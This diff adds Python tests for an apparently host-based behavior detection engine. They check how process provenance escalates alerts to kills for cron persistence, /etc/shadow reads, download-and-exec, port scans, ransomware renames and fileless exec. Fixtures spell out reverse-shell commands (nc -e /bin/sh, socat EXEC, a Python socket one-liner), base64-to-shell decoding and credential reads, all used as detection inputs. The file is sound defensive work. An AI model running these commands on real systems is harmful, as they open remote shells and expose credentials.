@@ -1,0 +1,246 @@
+"""Provenance (issue 15): which processes are of untrusted provenance, how that
+turns a sensitive act into a block, and the rules that now match structure."""
+
+from __future__ import annotations
+
+from bastion.detect.behavior import behavior_rules
+from bastion.detect.behavior.base import NS
+from bastion.detect.behavior.provenance import Provenance, script_of
+from bastion.detect.behavior.rules import (
+    DecodedPayloadShell, PortScan, Ransomware, ReverseShellCommand, revshell_structure,
+)
+from bastion.detect.behavior.state import Limits
+from bastion.detect.engine import Engine, Finding, RuleContext
+from bastion.events import Event, ExecEvent, FileEvent, ForkEvent, NetEvent, Proc
+from bastion.proctable import ProcessTable
+
+T0 = 1_767_225_600 * NS
+O_WRONLY, O_CREAT, O_TRUNC = 0o1, 0o100, 0o1000
+
+
+def proc(pid: int, exe: str, ppid: int = 1) -> Proc:
+    return Proc(pid=pid, tid=pid, ppid=ppid, uid=0, euid=0, gid=0, cgroup_id=1,
+                comm=exe.rsplit("/", 1)[-1][:15], start_ns=pid * 1000, exe=exe)
+
+
+def ex(pid: int, exe: str, t: float, argv: tuple[str, ...], ppid: int = 1,
+       cwd: str = "/root") -> ExecEvent:
+    return ExecEvent(T0 + int(t * NS), proc(pid, exe, ppid), filename=exe, cwd=cwd, argv=argv,
+                     exe_dev=1, exe_ino=sum(map(ord, exe)))
+
+
+def wopen(pid: int, exe: str, t: float, path: str, ppid: int = 1) -> FileEvent:
+    return FileEvent(T0 + int(t * NS), proc(pid, exe, ppid), op="open", path=path,
+                     flags=O_WRONLY | O_CREAT | O_TRUNC)
+
+
+def net(pid: int, exe: str, t: float, op: str = "connect", daddr: str = "127.0.0.1",
+        dport: int = 8000, ppid: int = 1) -> NetEvent:
+    return NetEvent(T0 + int(t * NS), proc(pid, exe, ppid), op=op, family="inet", protocol="tcp",
+                    daddr=daddr, dport=dport, saddr="0.0.0.0", sport=8080)
+
+
+def run(events: list[Event], rules: list | None = None) -> list[Finding]:  # type: ignore[type-arg]
+    procs = ProcessTable()
+    eng = Engine(rules if rules is not None else behavior_rules())
+    ctx = RuleContext(procs)
+    out: list[Finding] = []
+    for ev in events:
+        procs.update(ev)
+        out += eng.evaluate(ev, ctx)
+    assert not eng.errors
+    return out
+
+
+SH = "/usr/bin/dash"
+
+
+def test_cron_write_from_a_tmp_script_is_a_kill_tree_of_the_script() -> None:
+    got = run([ex(10, SH, 0, ("/bin/sh", "/tmp/x/evil.sh"), cwd="/tmp/x"),
+               ex(11, "/usr/bin/cp", 1, ("cp", "job", "/etc/cron.d/job"), ppid=10),
+               wopen(11, "/usr/bin/cp", 1.1, "/etc/cron.d/job", ppid=10)])
+    f = [x for x in got if x.rule == "behavior.persistence_cron"][0]
+    assert (f.severity, f.action, f.pid) == ("critical", "kill-tree", 10)
+    assert f.evidence["provenance"] == {"tmp-script": "/tmp/x/evil.sh"}
+    assert "cron job" in f.evidence["prevented"]
+
+
+def test_the_same_write_from_an_ordinary_shell_is_alerted_only() -> None:
+    got = run([ex(10, SH, 0, ("/bin/sh", "/root/job.sh")),
+               wopen(10, SH, 1, "/etc/cron.d/job")])
+    f = [x for x in got if x.rule == "behavior.persistence_cron"][0]
+    assert (f.severity, f.action) == ("high", "alert") and "provenance" not in f.evidence
+
+
+def test_taint_follows_forks_even_when_the_parent_is_gone() -> None:
+    got = run([ex(10, SH, 0, ("sh", "/dev/shm/.x")),
+               ForkEvent(T0 + NS, proc(10, SH), child_pid=12, child_start_ns=12000),
+               # the child re-parented to init (daemonised): ancestry no longer shows pid 10
+               wopen(12, SH, 2, "/root/.bashrc", ppid=1)])
+    f = [x for x in got if x.rule == "behavior.persistence_shell_profile"][0]
+    assert f.action == "kill-tree" and f.pid == 10 and "tmp-script" in f.evidence["provenance"]
+
+
+def test_download_then_exec_from_tmp_via_loopback_is_killed_at_exec() -> None:
+    py = "/usr/bin/python3.11"
+    got = run([ex(20, py, 0, ("python3", "fetch.py")),
+               net(20, py, 1),
+               wopen(20, py, 2, "/tmp/payload"),
+               ex(21, "/tmp/payload", 3, ("/tmp/payload",))])
+    f = [x for x in got if x.rule == "behavior.download_execute"][0]
+    assert (f.severity, f.action, f.pid) == ("critical", "kill", 21)
+    assert f.evidence["prevented"]
+
+
+def test_service_tree_reading_shadow_is_stopped_below_the_service() -> None:
+    node = "/usr/bin/node"
+    got = run([ex(30, node, 0, ("node", "app.js")),
+               net(30, node, 1, op="listen"),
+               ex(31, SH, 2, ("sh", "-c", "cat /etc/shadow"), ppid=30),
+               ex(32, "/usr/bin/cat", 3, ("cat", "/etc/shadow"), ppid=31),
+               FileEvent(T0 + 4 * NS, proc(32, "/usr/bin/cat", 31), op="open", path="/etc/shadow",
+                         flags=0)])
+    f = [x for x in got if x.rule == "behavior.credential_access"][0]
+    assert f.action == "kill-tree" and f.pid == 31      # the shell the service spawned, not node
+    assert "network-service" in f.evidence["provenance"]
+
+
+def test_state_is_bounded() -> None:
+    p = Provenance(limits=Limits(max_keys=64))
+    procs = ProcessTable()
+    ctx = RuleContext(procs)
+    for i in range(1000):
+        e = ex(1000 + i, SH, i * 0.001, ("sh", f"/tmp/s{i}.sh"))
+        procs.update(e)
+        p.on_event(e, ctx)
+    st = p.stats()
+    assert st["keys"] <= 4 * 64 and st["shed"] > 0
+
+
+def test_script_of() -> None:
+    assert script_of(ex(1, SH, 0, ("sh", "-e", "run.sh"), cwd="/tmp/w")) == "/tmp/w/run.sh"
+    assert script_of(ex(1, SH, 0, ("sh", "-c", "/tmp/x"))) is None
+    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-m", "http.server"))) is None
+    assert script_of(ex(1, "/usr/bin/ls", 0, ("ls", "/tmp/x"))) is None
+    # bundled options: `sh -ec TEXT` runs TEXT, no script file (the false-alarm corpus's steps)
+    assert script_of(ex(1, SH, 0, ("/bin/sh", "-ec", "make"), cwd="/tmp/w")) is None
+    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-uc", "pass"))) is None
+    assert script_of(ex(1, "/usr/bin/python3.11", 0, ("python3", "-E", "/tmp/a.py"))) == "/tmp/a.py"
+
+
+# ---- structure, not substrings --------------------------------------------------
+
+def test_python_c_run_from_a_directory_named_nc_is_no_reverse_shell() -> None:
+    """The issue's counterexample: ``\\b(nc|ncat|netcat)\\b.*\\s-(e|c)\\s`` matched this."""
+    e = ex(40, "/srv/nc/venv/bin/python3.11", 0,
+           ("/srv/nc/venv/bin/python3", "-c", "print(1)"), cwd="/srv/nc")
+    assert revshell_structure(e) is None
+    assert not run([e], [ReverseShellCommand()])
+
+
+def test_netcat_exec_options_are_reverse_shells() -> None:
+    for argv in (("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), ("ncat", "--sh-exec", "sh", "h", "1"),
+                 ("nc", "-lvpe", "/bin/sh", "4444")):
+        e = ex(41, "/usr/bin/" + argv[0], 0, argv)
+        f = run([e], [ReverseShellCommand()])
+        assert f and f[0].action == "kill", argv
+    assert revshell_structure(ex(41, "/usr/bin/nc", 0, ("nc", "-zv", "h", "22"))) is None
+    assert revshell_structure(ex(42, "/usr/bin/socat", 0, ("socat", "tcp:h:1", "EXEC:/bin/sh,pty")))
+    assert revshell_structure(ex(43, "/usr/bin/python3.11", 0, (
+        "python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)")))
+
+
+def test_decoded_payload_either_exec_order() -> None:
+    for order in ((("base64", "-d"), ("sh",)), (("sh",), ("base64", "--decode"))):
+        evs: list[Event] = [ex(50, SH, 0, ("sh", "-c", "x"))]
+        for i, argv in enumerate(order):
+            exe = SH if argv[0] == "sh" else "/usr/bin/base64"
+            evs.append(ex(51 + i, exe, 0.1 * (i + 1), argv, ppid=50))
+        f = run(evs, [DecodedPayloadShell()])
+        assert len(f) == 1 and f[0].action == "kill"
+        shell_pid = 51 if order[0] == ("sh",) else 52
+        assert f[0].pid == shell_pid
+
+
+def test_loopback_port_scan_and_host_sweep() -> None:
+    py = "/usr/bin/python3.11"
+    evs: list[Event] = [ex(60, py, 0, ("python3", "scan.py"))]
+    evs += [net(60, py, 0.01 * i, dport=1 + i) for i in range(60)]
+    f = run(evs, [PortScan()])
+    assert f and f[0].severity == "medium" and f[0].evidence["ports"] >= 50
+    evs = [ex(61, py, 0, ("python3", "sweep.py"))]
+    evs += [net(61, py, 0.01 * i, daddr=f"198.51.100.{i}", dport=22) for i in range(1, 70)]
+    f = run(evs, [PortScan()])
+    assert f and f[0].title.startswith("Host sweep")
+
+
+def test_one_client_per_port_from_a_shell_loop_counts_for_the_loop() -> None:
+    evs: list[Event] = [ex(70, "/usr/bin/bash", 0, ("bash", "scan.sh"))]
+    for i in range(30):
+        pid = 100 + i
+        evs += [ex(pid, "/usr/bin/nc", 0.1 * i, ("nc", "-z", "203.0.113.5", str(20 + i)), ppid=70),
+                net(pid, "/usr/bin/nc", 0.1 * i + 0.01, daddr="203.0.113.5", dport=20 + i, ppid=70)]
+    f = run(evs, [PortScan()])
+    assert f and f[0].pid == 70 and f[0].evidence["scope"] == "launcher"
+
+
+def test_ransomware_is_judged_anywhere() -> None:
+    py = "/usr/bin/python3.11"
+    evs: list[Event] = [ex(80, py, 0, ("python3", "enc.py"))]
+    for i in range(45):
+        p = f"/var/lib/app/data{i}.db"
+        evs += [FileEvent(T0 + int((1 + i * 0.01) * NS), proc(80, py), op="rename", path=p,
+                          path2=p + ".locked")]
+    f = run(evs, [Ransomware()])
+    assert f and f[0].action == "kill-tree" and f[0].severity == "critical"
+
+
+def test_an_admin_at_a_terminal_running_a_tmp_script_is_alerted_not_stopped() -> None:
+    from bastion.detect.behavior.rules import Probes
+    from support.trust import RecordedTrust
+
+    def scenario(tty: str) -> Finding:
+        trust = RecordedTrust()
+        rules = behavior_rules(probes=Probes(stdio=lambda pid: (tty, tty, tty)), trust=trust)
+        evs: list[Event] = [ex(5, "/usr/sbin/sshd", 0, ("sshd: root@pts/0",)),
+                            ex(6, "/usr/bin/bash", 0.1, ("-bash",), ppid=5),
+                            ex(10, SH, 1, ("sh", "/tmp/setup.sh"), ppid=6),
+                            wopen(10, SH, 2, "/etc/cron.d/job", ppid=6)]
+        for e in evs:
+            trust.learn(e)
+        return [x for x in run(evs, rules) if x.rule == "behavior.persistence_cron"][0]
+
+    f = scenario("/dev/pts/0")
+    assert (f.severity, f.action) == ("high", "alert")
+    f = scenario("pipe:[1234]")          # the same script with no terminal: stopped
+    assert f.action == "kill" and f.severity == "critical"
+
+
+def test_a_script_in_tmp_run_by_an_interpreter_is_exec_from_tmp() -> None:
+    """``sh /tmp/x.sh`` runs as /bin/sh: the script, not the interpreter, is the program."""
+    from bastion.detect.behavior.rules import ExecFromTemp
+
+    f = run([ex(90, SH, 0, ("sh", "/dev/shm/x.sh"))], [ExecFromTemp()])
+    assert f and f[0].severity == "high" and f[0].evidence["script"] == "/dev/shm/x.sh"
+    assert run([ex(91, SH, 0, ("sh", "-c", "ls /tmp/x"))], [ExecFromTemp()]) == []
+
+
+def test_setuid_search_by_find_operand() -> None:
+    from bastion.detect.behavior.rules import SetuidBits
+
+    f = run([ex(92, "/usr/bin/find", 0, ("find", "/", "-perm", "-4000", "-type", "f"))],
+            [SetuidBits()])
+    assert f and f[0].severity == "medium"
+    assert run([ex(93, "/usr/bin/find", 0, ("find", ".", "-name", "-perm"))], [SetuidBits()]) == []
+
+
+def test_every_block_says_what_it_prevented() -> None:
+    """Each acting finding of the pack carries evidence["prevented"] (issue 15)."""
+    py = "/usr/bin/python3.11"
+    got = run([ex(95, py, 0, ("python3", "x.py")), net(95, py, 1, daddr="203.0.113.9", dport=4444),
+               ex(95, SH, 2, ("sh", "-i")),
+               ExecEvent(T0 + 3 * NS, proc(96, "/memfd:x (deleted)"), argv=("x",), exe_ino=5,
+                         exe_nlink=0)])
+    acting = [f for f in got if f.action in ("kill", "kill-tree", "quarantine")]
+    assert {f.rule for f in acting} >= {"behavior.reverse_shell", "behavior.fileless_exec"}
+    assert all(f.evidence.get("prevented") for f in acting)
